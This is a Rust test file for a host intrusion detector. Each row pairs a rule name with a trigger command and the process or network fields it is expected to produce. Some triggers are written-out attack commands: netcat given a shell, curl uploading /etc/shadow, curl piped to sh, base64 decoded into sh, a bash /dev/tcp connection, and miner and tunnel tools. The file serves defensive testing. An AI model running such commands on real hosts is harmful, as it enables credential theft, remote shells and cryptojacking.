//! Programs that are started, and where they connect to.

use crate::{
    table::{Row, on_host, row},
    watch::builtin,
};

#[test]
fn programs_of_the_host() {
    let Some(watch) = builtin() else { return };
    on_host(watch, ROWS);
}

pub(super) const ROWS: &[Row] = &[
    row(
        "Search for secrets",
        "find /nothing -name id_rsa -o -name $0",
        &[("proc.exepath", "/usr/bin/find")],
    ),
    row("Password guessing tool run", "$A run john $0", &[("proc.exepath", "*/john")]),
    row(
        "Shell started by a server",
        "$A shell nginx -c 'sh -c : $0; :' $0",
        &[("proc.pname", "nginx"), ("proc.exepath", "/usr/bin/dash")],
    ),
    row(
        "Server looked around",
        "$A shell nginx -c 'id $0; :' $0",
        &[("proc.pname", "nginx"), ("proc.cmdline", "id saker-a*")],
    ),
    row(
        "Network tool started by a server",
        "$A shell nginx -c '$A run curl $0; :' $0",
        &[("proc.pname", "nginx"), ("proc.cmdline", "curl saker-a*")],
    ),
    row(
        "Shell joined to the network",
        "$A redirect sh -c : $0",
        &[("proc.stdin.type", "ipv4"), ("proc.stdout.type", "ipv4")],
    ),
    row("Netcat given a program", "$A run ncat -e /bin/sh $0", &[("proc.name", "ncat")]),
    row(
        "Interpreter given a reverse shell",
        "$A run python3 -c 'import socket, subprocess' $0",
        &[("proc.exepath", "*/python3")],
    ),
    row(
        "Terminal made for a shell",
        "$A run script -qc bash /dev/null $0",
        &[("proc.exepath", "*/script")],
    ),
    row(
        "New program run from a writable folder",
        "cp /bin/true /var/tmp/$0; /var/tmp/$0",
        &[("proc.exepath", "/var/tmp/saker-a*")],
    ),
    row(
        "New program run from a home",
        "mkdir -p /root/x; cp /bin/true /root/x/$0; /root/x/$0",
        &[("proc.exepath", "/root/x/saker-a*")],
    ),
    row(
        "Program run from shared memory",
        "cp /bin/true /dev/shm/$0; /dev/shm/$0; rm /dev/shm/$0",
        &[("proc.exepath", "/dev/shm/saker-a*")],
    ),
    row(
        "Encoded command run",
        "sh -c ': | base64 -d | sh' $0; :",
        &[("proc.cmdline", "sh -c : | base64 -d | sh saker-a*")],
    ),
    row(
        "Download run by a shell",
        "sh -c ': curl https://example.org | sh' $0; :",
        &[("proc.cmdline", "sh -c : curl https://example.org | sh saker-a*")],
    ),
    row(
        "Service account at a terminal",
        "$A terminal setpriv --reuid=daemon --clear-groups sh -c : $0",
        &[("user.name", "daemon"), ("proc.cmdline", "sh -c : saker-a*")],
    ),
    row("Known attack tool run", "$A run linpeas.sh $0", &[("proc.exepath", "*/linpeas.sh")]),
    row("Cryptocurrency miner run", "$A run xmrig $0", &[("proc.exepath", "*/xmrig")]),
    row("Processor tuned for mining", "$A run wrmsr $0", &[("proc.cmdline", "wrmsr saker-a*")]),
    row("Tunnel opened", "$A run chisel $0", &[("proc.exepath", "*/chisel")]),
    row(
        "Secrets sent from the command line",
        "$A run curl -T /etc/shadow $0",
        &[("proc.exepath", "*/curl")],
    ),
    row("Scanner run on the host", "$A run nmap $0", &[("proc.exepath", "*/nmap")]),
    row(
        "Network traffic captured on the host",
        "$A run tcpdump $0",
        &[("proc.exepath", "*/tcpdump")],
    ),
    row(
        "SSH password on the command line",
        "$A run sshpass -p x $0; :",
        &[("proc.exepath", "*/sshpass"), ("proc.pname", "sh")],
    ),
    row(
        "Package script uses the network",
        "$A shell npm -c '$A run nc $0; :' $0",
        &[("proc.pname", "npm"), ("proc.exepath", "*/nc")],
    ),
    row(
        "Package maintainer script downloads",
        "cp /bin/dash /usr/bin/dpkg; /usr/bin/dpkg -c '$A run wget $0; :' $0",
        &[("proc.pname", "dpkg"), ("proc.exepath", "*/wget")],
    ),
    row("Secret scanner run", "$A run trufflehog $0", &[("proc.exepath", "*/trufflehog")]),
    row(
        "Cloud metadata read",
        "$A network 169.254.169.254 $A connect 169.254.169.254 80 $0",
        &[("fd.name", "*->169.254.169.254:80")],
    ),
    row(
        "Mining pool contacted",
        "$A network 192.0.2.1 $A connect 192.0.2.1 3333 $0",
        &[("fd.name", "*->192.0.2.1:3333")],
    ),
    row(
        "Shell connects to the internet",
        "$A network 192.0.2.1 bash -c 'exec 3<>/dev/tcp/192.0.2.1/80' $0",
        &[("fd.name", "*->192.0.2.1:80"), ("proc.exepath", "/usr/bin/bash")],
    ),
    row(
        "Connection to Tor or IRC",
        "$A network 192.0.2.1 $A connect 192.0.2.1 6667 $0",
        &[("fd.name", "*->192.0.2.1:6667")],
    ),
    row(
        "Container engine contacted over the network",
        "$A network 192.0.2.1 $A connect 192.0.2.1 2375 $0",
        &[("fd.name", "*->192.0.2.1:2375")],
    ),
    row(
        "SSH agent used by another program",
        "mkdir /tmp/ssh-$0; $A unix /tmp/ssh-$0/agent.1; rmdir /tmp/ssh-$0",
        &[("fd.name", "*/agent.1")],
    ),
];
